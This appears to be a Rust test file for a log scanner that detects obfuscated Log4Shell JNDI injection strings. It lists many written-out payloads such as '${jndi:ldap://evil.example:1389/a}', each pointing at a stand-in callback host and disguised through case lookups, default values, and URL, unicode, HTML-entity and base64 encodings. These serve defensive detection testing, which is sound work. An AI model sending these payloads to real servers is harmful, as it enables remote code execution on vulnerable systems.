//! The decoder on single disguises and on the things that must not be findings.

use praxcheck_logscan::decode::{decode_str, obfuscation_set, plain_template_len};
use praxcheck_model::Obfuscation;

fn one(text: &str) -> praxcheck_logscan::decode::Hit {
    let hits = decode_str(text);
    assert_eq!(hits.len(), 1, "{text:?} gave {hits:?}");
    hits.into_iter().next().unwrap()
}

#[test]
fn every_protocol_log4j_accepts_is_found() {
    for p in [
        "ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "nis", "http", "https",
    ] {
        let h = one(&format!("x ${{jndi:{p}://evil.example:1389/a}} y"));
        let cb = h.callback.unwrap();
        assert_eq!(cb.protocol, p);
        assert_eq!(cb.host.as_deref(), Some("evil.example"));
        assert_eq!(cb.port, Some(1389));
    }
}

#[test]
fn each_disguise_alone_decodes_and_is_named() {
    let cases: &[(&str, &str, &[Obfuscation])] = &[
        (
            "${${lower:J}${upper:n}di:ldap://h/a}",
            "${jNdi:ldap://h/a}",
            &[Obfuscation::CaseLookup, Obfuscation::CaseMixing],
        ),
        (
            "${jnd${upper:ı}:ldap://h/a}",
            "${jndI:ldap://h/a}",
            &[Obfuscation::DotlessI],
        ),
        (
            "${${::-j}${::-n}${::-d}${::-i}:ldap://h/a}",
            "${jndi:ldap://h/a}",
            &[Obfuscation::DefaultValue],
        ),
        (
            "${${env:NOPE:-j}ndi:ldap://h/a}",
            "${jndi:ldap://h/a}",
            &[Obfuscation::EnvLookup, Obfuscation::DefaultValue],
        ),
        (
            "${${sys:nope:-j}ndi:ldap://h/a}",
            "${jndi:ldap://h/a}",
            &[Obfuscation::SysLookup, Obfuscation::DefaultValue],
        ),
        (
            "${${date:'j'}${date:'n'}di:ldap://h/a}",
            "${jndi:ldap://h/a}",
            &[Obfuscation::DateLookup],
        ),
        (
            "${${a:b:c:-j}ndi:ldap://h/a}",
            "${jndi:ldap://h/a}",
            &[Obfuscation::DefaultValue],
        ),
        (
            "\\u0024\\u007bjndi:ldap://h/a\\u007d",
            "${jndi:ldap://h/a}",
            &[Obfuscation::UnicodeEscape],
        ),
        (
            "\\044\\173jndi:ldap://h/a\\175",
            "${jndi:ldap://h/a}",
            &[Obfuscation::OctalEscape],
        ),
        (
            "\\x24\\x7bjndi:ldap://h/a\\x7d",
            "${jndi:ldap://h/a}",
            &[Obfuscation::HexEscape],
        ),
        (
            "%24%7Bjndi%3Aldap%3A%2F%2Fh%2Fa%7D",
            "${jndi:ldap://h/a}",
            &[Obfuscation::UrlEncoding],
        ),
        (
            "%252524%25257Bjndi:ldap://h/a%25257D",
            "${jndi:ldap://h/a}",
            &[Obfuscation::MultipleUrlEncoding],
        ),
        (
            "&#36;&#123;jndi:ldap://h/a&#125;",
            "${jndi:ldap://h/a}",
            &[Obfuscation::HtmlEntity],
        ),
        (
            "${base64:JHtqbmRpOmxkYXA6Ly9oL2F9}",
            "${jndi:ldap://h/a}",
            &[Obfuscation::Base64],
        ),
        (
            "${jNdI:LdAp://h/a}",
            "${jNdI:LdAp://h/a}",
            &[Obfuscation::CaseMixing],
        ),
        (
            "${jndi:ldap://h/a",
            "${jndi:ldap://h/a",
            &[Obfuscation::Unterminated],
        ),
        (
            "${jndi:ldap://127.0.0.1#evil.example:1389/a}",
            "${jndi:ldap://127.0.0.1#evil.example:1389/a}",
            &[Obfuscation::HashInHost],
        ),
        (
            "${jndi:ldap://${jndi:dns://inner.example}.h/a}",
            "${jndi:ldap://${jndi:dns://inner.example}.h/a}",
            &[Obfuscation::NestedJndi],
        ),
    ];
    for (input, want, techniques) in cases {
        let h = one(input);
        assert_eq!(h.payload, *want, "{input}");
        let set = obfuscation_set(&h);
        for t in *techniques {
            assert!(set.contains(t), "{input}: {t:?} missing in {set:?}");
        }
    }
}

#[test]
fn rarer_encodings_of_the_dollar_are_found_by_the_scanner() {
    // `decode_str` runs the scanner's anchor search; each of these once slipped past it.
    for input in [
        "%25252524%257Bjndi:ldap://h/a%257D",
        "%25u0024%7Bjndi:ldap://h/a%7D",
        "%2525%32%34%7Bjndi:ldap://h/a%7D",
        "%25%32%34%25%37%42jndi:ldap://h/a%7D",
        "&#x24;&#x7b;jndi:ldap://h/a&#x7d;",
        "&dollar;{jndi:ldap://h/a}",
        "%26%2336;{jndi:ldap://h/a}",
        "%5Cu0024%7Bjndi:ldap://h/a%7D",
    ] {
        let h = one(&format!("GET /?q={input} HTTP/1.1"));
        assert_eq!(h.payload, "${jndi:ldap://h/a}", "{input}");
    }
}

#[test]
fn surrogate_pairs_and_mixed_layers() {
    // `$` as \u escape, `{` URL-encoded, the j through a lower lookup.
    let h = one("\\u0024%7B${lower:J}ndi:ldap://h/a}");
    assert_eq!(h.payload, "${jndi:ldap://h/a}");
    // A surrogate pair in the host survives as one character.
    let h = one("${jndi:ldap://h\\uD83D\\uDE00x/a}");
    assert_eq!(h.callback.unwrap().host.as_deref(), Some("h\u{1F600}x"));
}

#[test]
fn callback_host_and_port() {
    let h = one("${jndi:rmi://[2001:db8::1]:1099/x}");
    let cb = h.callback.unwrap();
    assert_eq!(cb.host.as_deref(), Some("[2001:db8::1]"));
    assert_eq!(cb.port, Some(1099));
    let h = one("${jndi:dns:/exfil.example}");
    assert_eq!(h.callback.unwrap().host.as_deref(), Some("exfil.example"));
    let h = one("${jndi:ldap:evil.example}");
    assert_eq!(h.callback.unwrap().host.as_deref(), Some("evil.example"));
}

#[test]
fn harmless_text_is_not_a_finding() {
    for text in [
        "${USER} ${HOME} ${java.home} ${catalina.base}/logs",
        "user=${USER} home=${HOME} jndi name java:comp/env/jdbc/ds ldap://intranet.example",
        "Contains jndi:ldap://tj5udg.dnslog.cn",
        "${USER}jndi:ldap://x.example",
        "${jndi:java:comp/env/jdbc/pvs}",
        "${jndi:${sys:jndi.name}}",
        "{\"url\": \"${DB_URL}\", \"ldap\": \"ldap://dc01:389\", \"jndi\": true}",
        "spring.ldap.urls: ${LDAP_URL:ldap://localhost:389}",
        "%24filter=datum%20ge%202021-12-01&%24top=50",
        "${sys:jndi.ldap.url}",
        "price $ {jndi:ldap://x}",
        "$${jndi-name}",
        "Patient Jürgens, Größe 1,80 m",
    ] {
        assert!(
            decode_str(text).is_empty(),
            "{text}: {:?}",
            decode_str(text)
        );
    }
}

#[test]
fn broken_nesting_still_shows_intent() {
    // The braces close before the protocol; Log4j would not run it, an attacker tried.
    let h = one("${${env:X:-j}${lower:N}${lower:${upper:d}}}i:dns:/addr}");
    assert_eq!(h.payload, "${jnd}i:dns:/addr}");
    assert!(obfuscation_set(&h).contains(&Obfuscation::BrokenNesting));
    assert_eq!(h.callback.unwrap().host.as_deref(), Some("addr"));
}

#[test]
fn plain_template_fast_path_agrees_with_the_decoder() {
    // Templates the fast path accepts decode to nothing; those it declines are the ones
    // that need the decoder.
    for t in [
        "${USER}",
        "${env:HOME}",
        "${sys:os.version:-x}",
        "${java.home}",
        "${jdbc.url}",
        "${ctx:requestId}",
        "${a:b:c:-d}",
    ] {
        let n = plain_template_len(t.as_bytes()).unwrap_or_else(|| panic!("{t}"));
        assert_eq!(n, t.len());
        assert!(decode_str(t).is_empty());
    }
    for t in [
        "${jndi:ldap://x}",
        "${x:-j}ndi:ldap://a",
        "${base64:JHtqbmRpOmxkYXA6YWRkcn0=}",
        "${JNDI:x}",
        "${lower:${x}}",
        "${x:-jnd}i:ldap://a",
    ] {
        assert!(plain_template_len(t.as_bytes()).is_none(), "{t}");
    }
}
